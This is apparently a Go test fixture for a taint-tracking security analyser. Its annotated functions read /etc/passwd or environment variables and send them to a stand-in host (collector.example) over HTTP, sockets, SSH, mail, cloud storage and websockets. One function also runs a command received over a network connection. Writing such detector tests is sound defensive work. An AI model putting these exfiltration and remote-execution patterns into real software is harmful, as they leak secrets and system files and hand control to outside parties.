// Readers and writers: io, bufio, buffers of bytes and strings, and what copies from one to another. What a reader has to give lies in it or in its `@content`; what is written into a writer lies in its `@content`.
package models

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/smtp"
	"os"
	"os/exec"
	"strconv"
	"strings"

	"cloud.google.com/go/storage"
	"github.com/gorilla/websocket"
	"golang.org/x/crypto/ssh"
)

const U = "https://collector.example/u?"

func read(c net.Conn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f1
	b := make([]byte, 64)
	n, _ := f.Read(b)
	c.Write(b[:n]) //~ sink(egress.socket) f1, finding(traced) f1
}

func readAny(c net.Conn, r io.Reader) {
	r = bytes.NewReader([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f2
	b := make([]byte, 64)
	r.Read(b)
	c.Write(b) //~ sink(egress.socket) f2, finding(traced) f2
}

func readConstant(c net.Conn) {
	b := make([]byte, 64)
	strings.NewReader("ping").Read(b) //~ ok
	c.Write(b) //~ ok
}

func readString() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f4
	r := bufio.NewReader(f)
	line, _ := r.ReadString('\n')
	http.Get(U + line) //~ sink(egress.http) f4, finding(traced) f4
}

func readStringConstant() {
	r := bufio.NewReader(strings.NewReader("ping"))
	line, _ := r.ReadString('\n') //~ ok
	http.Get(U + line) //~ ok
}

func bytesOf(c net.Conn) {
	var b bytes.Buffer
	b.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f6
	c.Write(b.Bytes()) //~ sink(egress.socket) f6, finding(traced) f6
}

func bytesOfConstant(c net.Conn) {
	var b bytes.Buffer
	b.WriteString("ping")
	c.Write(b.Bytes()) //~ ok
}

func built() {
	var b strings.Builder
	b.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f8
	http.Get(U + b.String()) //~ sink(egress.http) f8, finding(traced) f8
}

func builtConstant() {
	var b strings.Builder
	b.WriteString("ping")
	http.Get(U + b.String()) //~ ok
}

func waiting() {
	f, _ := os.Open("/etc/passwd")
	n := bufio.NewReader(f).Buffered() //~ ok
	http.Get(U + strconv.Itoa(n)) //~ ok
}

func readUnknown(c net.Conn) {
	r := unknownReader()
	r.Source = strings.NewReader(os.Getenv("T")) //~ source(ENVIRONMENT) f11
	b := make([]byte, 64)
	r.Read(b)
	c.Write(b) //~ sink(egress.socket) f11, finding(traced) f11
}

func readUnknownConstant(c net.Conn) {
	r := unknownReader()
	b := make([]byte, 64)
	r.Read(b) //~ ok
	c.Write(b) //~ ok
}

func written(c net.Conn) {
	var b bytes.Buffer
	b.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f13
	c.Write(b.Bytes()) //~ sink(egress.socket) f13, finding(traced) f13
}

func writtenConstant(c net.Conn) {
	var b bytes.Buffer
	b.Write([]byte("ping")) //~ ok
	c.Write(b.Bytes()) //~ ok
}

func writtenUnknown() {
	w := unknownWriter()
	w.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f15
	http.Post(U, "", w) //~ sink(egress.http) f15, finding(traced) f15
}

func writtenUnknownConstant() {
	w := unknownWriter()
	w.WriteString("ping") //~ ok
	http.Post(U, "", w) //~ ok
}

func readFrom(c net.Conn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f17
	var b bytes.Buffer
	b.ReadFrom(f)
	c.Write(b.Bytes()) //~ sink(egress.socket) f17, finding(traced) f17
}

func readFromConstant(c net.Conn) {
	var b bytes.Buffer
	b.ReadFrom(strings.NewReader("ping")) //~ ok
	c.Write(b.Bytes()) //~ ok
}

func writeTo(c net.Conn) {
	var a, b bytes.Buffer
	a.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f19
	a.WriteTo(&b)
	c.Write(b.Bytes()) //~ sink(egress.socket) f19, finding(traced) f19
}

func writeToConstant(c net.Conn) {
	var a, b bytes.Buffer
	a.WriteTo(&b) //~ ok
	c.Write(b.Bytes()) //~ ok
}

func readAll(c net.Conn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f21
	b, _ := io.ReadAll(f)
	c.Write(b) //~ sink(egress.socket) f21, finding(traced) f21
}

func readAllConstant(c net.Conn) {
	b, _ := io.ReadAll(strings.NewReader("ping")) //~ ok
	c.Write(b) //~ ok
}

func readFull(c net.Conn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f23
	b := make([]byte, 64)
	io.ReadFull(f, b)
	c.Write(b) //~ sink(egress.socket) f23, finding(traced) f23
}

func readFullConstant(c net.Conn) {
	b := make([]byte, 64)
	io.ReadFull(strings.NewReader("ping"), b) //~ ok
	c.Write(b) //~ ok
}

func copiedStream(c net.Conn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f25
	var b bytes.Buffer
	io.Copy(&b, f)
	c.Write(b.Bytes()) //~ sink(egress.socket) f25, finding(traced) f25
}

func copiedStreamConstant(c net.Conn) {
	var b bytes.Buffer
	io.Copy(&b, strings.NewReader("ping")) //~ ok
	c.Write(b.Bytes()) //~ ok
}

func writeString(c net.Conn) {
	var b bytes.Buffer
	io.WriteString(&b, os.Getenv("T")) //~ source(ENVIRONMENT) f27
	c.Write(b.Bytes()) //~ sink(egress.socket) f27, finding(traced) f27
}

func writeStringConstant(c net.Conn) {
	var b bytes.Buffer
	io.WriteString(&b, "ping") //~ ok
	c.Write(b.Bytes()) //~ ok
}

func printedTo(c net.Conn) {
	var b bytes.Buffer
	fmt.Fprintf(&b, "t=%s", os.Getenv("T")) //~ source(ENVIRONMENT) f29
	c.Write(b.Bytes()) //~ sink(egress.socket) f29, finding(traced) f29
}

func printedToConstant(c net.Conn) {
	var b bytes.Buffer
	fmt.Fprintf(&b, "t=%d", 1) //~ ok
	c.Write(b.Bytes()) //~ ok
}

func printedToConnection(c net.Conn) {
	fmt.Fprintf(c, "t=%s", os.Getenv("T")) //~ source(ENVIRONMENT) f31, sink(egress.socket) f31, finding(traced) f31, capability(NETWORK)
}

func copiedToConnection(c net.Conn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f32
	io.Copy(c, f) //~ sink(egress.socket) f32, finding(traced) f32
}

func printedToConnectionConstant(c net.Conn) {
	fmt.Fprintf(c, "t=%d", 1) //~ ok
}

func printedToResponse(w http.ResponseWriter) {
	fmt.Fprintf(w, "t=%s", os.Getenv("T")) //~ source(ENVIRONMENT) f34, sink(egress.http) f34, finding(traced) f34, capability(NETWORK)
}

func printedToResponseConstant(w http.ResponseWriter) {
	fmt.Fprintf(w, "t=%d", 1) //~ ok
}

func printedToSession(s *ssh.Session) {
	in, _ := s.StdinPipe()
	fmt.Fprintln(in, os.Getenv("T")) //~ source(ENVIRONMENT) f36, sink(egress.ssh) f36, finding(traced) f36, capability(NETWORK)
}

func printedToSessionConstant(s *ssh.Session) {
	in, _ := s.StdinPipe()
	fmt.Fprintln(in, "exit") //~ ok
}

func printedToMail(c *smtp.Client) {
	w, _ := c.Data()
	fmt.Fprintf(w, "t: %s", os.Getenv("T")) //~ source(ENVIRONMENT) f38, sink(egress.mail) f38, finding(traced) f38, capability(MAIL)
}

func printedToMailConstant(c *smtp.Client) {
	w, _ := c.Data()
	fmt.Fprintf(w, "t: %d", 1) //~ ok
}

func copiedToStorage(o *storage.ObjectHandle, ctx context.Context) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f40
	w := o.NewWriter(ctx)
	io.Copy(w, f) //~ sink(egress.cloud) f40, finding(traced) f40, capability(NETWORK)
}

func copiedToStorageConstant(o *storage.ObjectHandle, ctx context.Context) {
	w := o.NewWriter(ctx)
	io.Copy(w, strings.NewReader("ping")) //~ ok
}

func printedToWebSocket(c *websocket.Conn) {
	w, _ := c.NextWriter(websocket.TextMessage)
	fmt.Fprint(w, os.Getenv("T")) //~ source(ENVIRONMENT) f42, sink(egress.message) f42, finding(traced) f42, capability(NETWORK)
}

func printedToWebSocketConstant(c *websocket.Conn) {
	w, _ := c.NextWriter(websocket.TextMessage)
	fmt.Fprint(w, "ping") //~ ok
}

func downloaded() {
	response, _ := http.Get(U) //~ source(NETWORK) f44
	f, _ := os.Create("/tmp/x")
	io.Copy(f, response.Body) //~ sink(file.write) f44, finding(traced) f44, capability(FILE_WRITE)
}

func downloadedConstant() {
	f, _ := os.Create("/tmp/x")
	io.Copy(f, strings.NewReader("ping")) //~ ok
}

func wrapped() {
	body := io.NopCloser(strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f46
	http.Post(U, "", body) //~ sink(egress.http) f46, finding(traced) f46
}

func wrappedConstant() {
	http.Post(U, "", io.NopCloser(strings.NewReader("ping"))) //~ ok
}

func teed(c net.Conn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f48
	var b bytes.Buffer
	io.Copy(io.Discard, io.TeeReader(f, &b))
	c.Write(b.Bytes()) //~ sink(egress.socket) f48, finding(traced) f48
}

func teedConstant(c net.Conn) {
	var b bytes.Buffer
	io.Copy(io.Discard, io.TeeReader(strings.NewReader("ping"), &b)) //~ ok
	c.Write(b.Bytes()) //~ ok
}

func chained() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f50
	http.Post(U, "", io.MultiReader(strings.NewReader("a"), f)) //~ sink(egress.http) f50, finding(traced) f50
}

func chainedConstant() {
	http.Post(U, "", io.MultiReader(strings.NewReader("a"), strings.NewReader("b"))) //~ ok
}

func forked(c net.Conn) {
	var b bytes.Buffer
	w := io.MultiWriter(os.Stdout, &b)
	io.WriteString(w, os.Getenv("T")) //~ source(ENVIRONMENT) f52
	c.Write(b.Bytes()) //~ sink(egress.socket) f52, finding(traced) f52
}

func forkedConstant(c net.Conn) {
	var b bytes.Buffer
	w := io.MultiWriter(os.Stdout, &b) //~ ok
	io.WriteString(w, "ping")
	c.Write(b.Bytes()) //~ ok
}

func piped() {
	r, w := io.Pipe()
	go func() {
		io.WriteString(w, os.Getenv("T")) //~ source(ENVIRONMENT) f54
		w.Close()
	}()
	http.Post(U, "", r) //~ sink(egress.http) f54, finding(traced) f54
}

func pipedInOne() {
	r, w := io.Pipe()
	go io.WriteString(w, os.Getenv("T")) //~ source(ENVIRONMENT) f55
	http.Post(U, "", r) //~ sink(egress.http) f55, finding(traced) f55
}

func pipedConstant() {
	r, w := io.Pipe() //~ ok
	go func() {
		io.WriteString(w, "ping")
		w.Close()
	}()
	http.Post(U, "", r) //~ ok
}

func buffered() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f57
	http.Post(U, "", bufio.NewReader(f)) //~ sink(egress.http) f57, finding(traced) f57
}

func bufferedConstant() {
	http.Post(U, "", bufio.NewReader(strings.NewReader("ping"))) //~ ok
}

func bufferedConnection(c net.Conn) {
	w := bufio.NewWriter(c)
	w.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f59, sink(egress.socket) f59, finding(traced) f59
	w.Flush()
}

func bufferedConnectionRead(c net.Conn) {
	r := bufio.NewReader(c)
	line, _ := r.ReadString('\n') //~ source(NETWORK) f60
	exec.Command(line).Run() //~ sink(exec.command) f60, finding(traced) f60
}

func bufferedConnectionConstant(c net.Conn) {
	w := bufio.NewWriter(c) //~ ok
	w.WriteString("ping") //~ ok
}

func bufferedWriter() {
	var b bytes.Buffer
	w := bufio.NewWriter(&b)
	w.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f62
	w.Flush()
	http.Post(U, "", &b) //~ sink(egress.http) f62, finding(traced) f62
}

func bufferedWriterConstant() {
	var b bytes.Buffer
	w := bufio.NewWriter(&b) //~ ok
	w.WriteString("ping")
	http.Post(U, "", &b) //~ ok
}

func bufferedBoth() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f64
	rw := bufio.NewReadWriter(bufio.NewReader(f), bufio.NewWriter(os.Stdout))
	line, _ := rw.ReadString('\n')
	http.Get(U + line) //~ sink(egress.http) f64, finding(traced) f64
}

func bufferedBothConstant() {
	rw := bufio.NewReadWriter(bufio.NewReader(strings.NewReader("ping")), bufio.NewWriter(os.Stdout)) //~ ok
	line, _ := rw.ReadString('\n')
	http.Get(U + line) //~ ok
}

func scannedLines() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f66
	s := bufio.NewScanner(f)
	for s.Scan() {
		http.Get(U + s.Text()) //~ sink(egress.http) f66, finding(traced) f66
	}
}

func scannedLinesConstant() {
	s := bufio.NewScanner(strings.NewReader("ping")) //~ ok
	for s.Scan() {
		http.Get(U + s.Text()) //~ ok
	}
}

func scannedBytes(c net.Conn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f68
	s := bufio.NewScanner(f)
	s.Scan()
	c.Write(s.Bytes()) //~ sink(egress.socket) f68, finding(traced) f68
}

func scannedBytesConstant(c net.Conn) {
	s := bufio.NewScanner(strings.NewReader("ping"))
	c.Write(s.Bytes()) //~ ok
}

func scannerError() {
	f, _ := os.Open("/etc/passwd")
	s := bufio.NewScanner(f)
	s.Scan()
	http.Get(U + s.Err().Error()) //~ ok
}

func reader() {
	http.Post(U, "", bytes.NewReader([]byte(os.Getenv("T")))) //~ source(ENVIRONMENT) f71, sink(egress.http) f71, finding(traced) f71
	http.Post(U, "", bytes.NewReader([]byte("ping"))) //~ ok
}

func teedToConnection(f *os.File, c net.Conn) {
	b, _ := os.ReadFile("/etc/passwd")                      //~ source(FILE) ftee
	io.ReadAll(io.TeeReader(bytes.NewReader(b), c))         //~ sink(egress.socket) ftee, finding(traced) ftee, capability(NETWORK)
	io.ReadAll(io.TeeReader(strings.NewReader("ping"), c)) //~ ok
	bytes.NewBuffer(b).WriteTo(c)                           //~ sink(egress.socket) ftee, finding(traced) ftee, capability(NETWORK)
	strings.NewReader("ping").WriteTo(c)                    //~ ok
}
